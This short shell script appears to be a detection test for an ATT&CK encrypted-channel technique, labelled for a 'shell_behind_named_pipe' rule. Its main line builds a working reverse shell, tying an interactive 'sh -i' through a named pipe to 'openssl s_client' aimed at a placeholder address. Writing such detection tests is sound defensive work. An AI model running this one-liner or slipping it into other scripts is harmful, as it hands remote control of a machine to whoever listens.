#!/bin/sh
# technique: T1573.002 Encrypted Channel: Asymmetric Cryptography
# rule: shell_behind_named_pipe
# Ties a shell to an encrypted connection by a named pipe; nobody answers.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
timeout 3 sh -c 'mkfifo /tmp/pipe; sh -i < /tmp/pipe 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4447 > /tmp/pipe' 2>/dev/null || true
rm -f /tmp/pipe
exit 0
